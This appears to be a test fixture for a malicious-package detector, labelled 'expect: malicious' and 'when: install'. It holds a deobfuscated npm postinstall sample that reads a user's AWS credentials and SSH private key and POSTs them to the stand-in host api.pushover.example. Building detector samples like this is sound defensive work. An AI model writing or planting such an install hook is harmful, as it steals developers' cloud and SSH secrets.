// expect: malicious
// when: install
// source: blind set 24's progress-bar postinstall (obfuscator.io output, strings resolved here): every method is
// called by a bracketed name, on an array literal too, and the credential files are pushed into an array by `['push']`
const fs = require('fs'), path = require('path'), os = require('os'), https = require('https');
const home = os['homedir'](), found = [];
['.aws/credentials', '.ssh/id_rsa']['forEach'](function (rel) {
  const p = path['join'](home, rel);
  if (fs['existsSync'](p)) found['push']([rel, fs['readFileSync'](p, 'utf8')]);
});
const parts = [];
parts['push']('--clp\r\nContent-Disposition: form-data; name="attachment"\r\n\r\n' + found['map']((f) => f[1])['join']('\n'));
const req = https['request']({ hostname: 'api.pushover.example', path: '/1/messages.json', method: 'POST' }, function () {});
req['end'](Buffer['from'](parts['join']('')));
